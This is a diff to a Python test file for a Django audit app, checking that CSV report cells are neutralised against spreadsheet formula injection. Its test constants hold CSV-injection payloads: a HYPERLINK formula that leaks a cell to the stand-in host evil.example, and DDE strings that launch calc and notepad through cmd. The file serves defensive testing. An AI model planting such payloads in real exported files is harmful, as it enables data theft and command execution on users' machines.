@@ -12,7 +12,6 @@ from asgiref.sync import sync_to_async
 from django.utils import timezone
 from rest_framework.test import APIClient
 
-from apps.audit.csvsafe import FORMULA_TRIGGERS, csv_row
 from apps.audit.reports import render_csv, report_build
 from apps.audit.writebehind import audit_events
 from apps.routing.writebehind import request_logs
@@ -27,6 +26,8 @@ MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
 USER = "@SUM(1+1)*cmd|' /C calc'!A0"
 REQUEST_ID = "+cmd|' /C notepad'!A0"
 OTHERS = ["-2+3+cmd", "\tcmd", "\r=1+1"]
+# What spreadsheets read as the start of a formula (OWASP, CSV injection).
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def cells(text: str) -> list[str]:
@@ -128,6 +129,8 @@ async def test_compliance_report_csv_neutralises_formulas_from_real_requests(hos
 
 
 def test_every_formula_trigger_is_neutralised_in_plain_and_json_cells():
+    from apps.audit.csvsafe import csv_row
+
     values = [MODEL, USER, REQUEST_ID, *OTHERS, "plain", 7, -3, None]
     row = csv_row([*values, {"k": MODEL, "=key": [USER, {"deep": "\tx"}]}, [OTHERS[0]]])
     assert row[: len(values)] == [
